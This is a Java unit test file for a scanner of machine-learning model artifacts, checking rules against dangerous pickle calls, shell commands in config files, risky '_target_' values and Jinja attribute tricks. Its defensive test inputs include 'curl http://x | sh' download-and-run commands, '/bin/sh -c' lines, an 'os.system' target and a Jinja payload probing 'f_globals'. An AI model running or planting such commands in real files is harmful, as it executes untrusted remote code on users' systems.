package io.sallyport.artifacts.evasion;

import static io.sallyport.artifacts.evasion.ModelFiles.join;
import static io.sallyport.artifacts.evasion.ModelFiles.utf8;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.sallyport.artifacts.ModelScanner;
import io.sallyport.artifacts.PickleBytes;
import io.sallyport.artifacts.ScanFinding;
import io.sallyport.artifacts.ScanLimits;
import io.sallyport.artifacts.internal.rules.DataFiles;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Each entry of the lists about carried code, commands and families does what it is there for. */
final class LaterListsTest {
  private static final ModelScanner SCANNER = new ModelScanner(ScanLimits.standard());
  private static final JsonNode SETTINGS = DataFiles.tree("rules/settings.json");

  private static List<String> rules(byte[] bytes, String file) {
    return SCANNER.scan(bytes, file).findings().stream().map(ScanFinding::rule).distinct().toList();
  }

  @Test
  void pairsOfNamesInCode_areMaliciousTogetherOnly() {
    for (JsonNode pair : DataFiles.tree("rules/acting-code.json")) {
      List<String> names = new ArrayList<>();
      pair.forEach(name -> names.add(name.asText()));
      assertThat(rules(LaterEvasions.function(names.toArray(new String[0])), "m.pkl"))
          .contains("pickle/dangerous-code");
      if (names.size() > 1) {
        assertThat(rules(LaterEvasions.function(names.getFirst()), "m.pkl"))
            .containsExactly("pickle/code");
      }
    }
  }

  @Test
  void classesOfFamilies_areCleanAsKeptObjects() {
    for (String family : DataFiles.lines("python/class-families.txt")) {
      byte[] kept =
          PickleBytes.protocol(4)
              .global(family + "x", "Thing")
              .raw(")")
              .op(0x81)
              .raw("}b.")
              .bytes();
      assertThat(rules(kept, "m.pkl")).as(family).isEmpty();
      assertThat(rules(PickleBytes.calling(family + "x", "Thing", "/a"), "m.pkl"))
          .as(family)
          .contains("pickle/unexpected-call");
      assertThat(rules(PickleBytes.calling(family + "x", "thing", "a"), "m.pkl"))
          .as(family)
          .isNotEmpty();
    }
  }

  @Test
  void settingsOfTools_areReadAsCommands() {
    for (JsonNode key : SETTINGS.path("command-keys")) {
      String name = key.asText();
      assertThat(rules(utf8("{\"" + name + "\":\"curl http://x | sh\"}"), "a.json"))
          .containsExactly("code/shell-command");
      assertThat(rules(utf8(name + ": [\"curl http://x | sh\"]\n"), "a.yaml"))
          .containsExactly("code/shell-command");
      assertThat(rules(utf8("{\"" + name + "\":\"pytest -q\"}"), "a.json")).isEmpty();
    }
    SETTINGS
        .path("line-commands")
        .properties()
        .forEach(
            ending ->
                ending
                    .getValue()
                    .forEach(
                        key -> {
                          String line = "[A]\n" + key.asText() + "=/bin/sh -c \"%s\"\n";
                          String file = "a." + ending.getKey();
                          assertThat(rules(utf8(line.formatted("curl http://x | sh")), file))
                              .contains("code/shell-command");
                          assertThat(rules(utf8(line.formatted("true")), file))
                              .doesNotContain("code/shell-command");
                        }));
    assertThat(rules(utf8("entry_points: {m: {command: \"curl http://x | sh\"}}\n"), "MLproject"))
        .containsExactly("code/shell-command");
    for (JsonNode target : SETTINGS.path("target-callers")) {
      String text = "{\"_target_\":\"" + target.asText() + "\",\"x\":\"os.system\"}";
      assertThat(rules(utf8(text), "a.json")).contains("config/dangerous-target");
    }
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = ';',
      quoteCharacter = '`',
      value = {
        "{{ m | attr('content') }} ; ``",
        "{{ m | attr(\"tool_calls\") }} ; ``",
        "{{ m | attr('system') }} ; jinja/inner-attribute",
        "{{ m | attr('_x') }} ; jinja/attr-filter",
        "{{ m | attr('f_globals') }} ; jinja/inner-attribute",
        "{{ m | attr('a' ~ b) }} ; jinja/computed-attribute",
        "{{ m | attr(x) }} ; jinja/computed-attribute"
      })
  void filterAttr_isJudgedByItsArgument(String template, String rule) {
    List<String> found = rules(utf8(template), "t.jinja");

    if (rule.isEmpty()) {
      assertThat(found).isEmpty();
    } else {
      assertThat(found).contains(rule);
    }
  }

  @Test
  void honestSettings_areClean() {
    String numbers =
        IntStream.range(0, 70_000)
            .mapToObj(i -> "\"t" + i + "\":" + i)
            .collect(Collectors.joining(","));
    String vocabulary = "{" + numbers + ",\"_target_\":1,\"class_path\":2,\"auto_map\":3}";
    String partial =
        "{_target_: functools.partial, _args_: [{_target_: torch.nn.Linear}], f: a.csv}";
    String diffusion =
        "model:\n  target: ldm.models.diffusion.ddpm.LatentDiffusion\n"
            + "  params: {unet_config: {target: ldm.modules.diffusionmodules.openaimodel.UNetModel}}\n";
    String workflow =
        "jobs:\n  t:\n    steps:\n    - run: |\n        pip install -e .\n        pytest -q | tee log\n";
    String environment =
        "dependencies:\n- python=3.12\n- pip:\n  - torch==2.9\n"
            + "  - git+https://github.com/huggingface/peft\n";
    String project =
        "[project]\ndependencies = [\"torch\"]\n[project.urls]\nHomepage = \"https://x.example\"\n";
    String make = "SRC = $(wildcard *.py)\nall: $(SRC)\n\t@echo $@\n\trm -rf build\n";

    assertThat(rules(utf8(vocabulary), "vocab.json")).isEmpty();
    assertThat(rules(utf8(partial), "c.yaml")).isEmpty();
    assertThat(rules(utf8(diffusion), "c.yaml")).isEmpty();
    assertThat(rules(utf8(workflow), "ci.yml")).isEmpty();
    assertThat(rules(utf8(environment), "environment.yml")).isEmpty();
    assertThat(rules(utf8(project), "pyproject.toml")).isEmpty();
    assertThat(rules(utf8(make), "Makefile")).isEmpty();
    assertThat(rules(utf8("{\"x\":{\":serialized:\":\"gASVAAAA\"}}"), "data")).isEmpty();
  }

  @Test
  void plainDataOfR_areClean() {
    byte[] frame = RData.file(RData.frame());
    byte[] workspace =
        join(
            utf8("RDX3\n"),
            RData.file(RData.number(2 | 0x400), RData.symbol("d"), RData.frame(), RData.END));

    assertThat(SCANNER.scan(frame, "m.rds").format()).isEqualTo("r-data");
    assertThat(rules(frame, "m.rds")).isEmpty();
    assertThat(rules(workspace, "m.RData")).isEmpty();
    assertThat(rules(utf8("A\n2\n3\n4\n5\n"), "labels.txt")).isEmpty();
  }
}
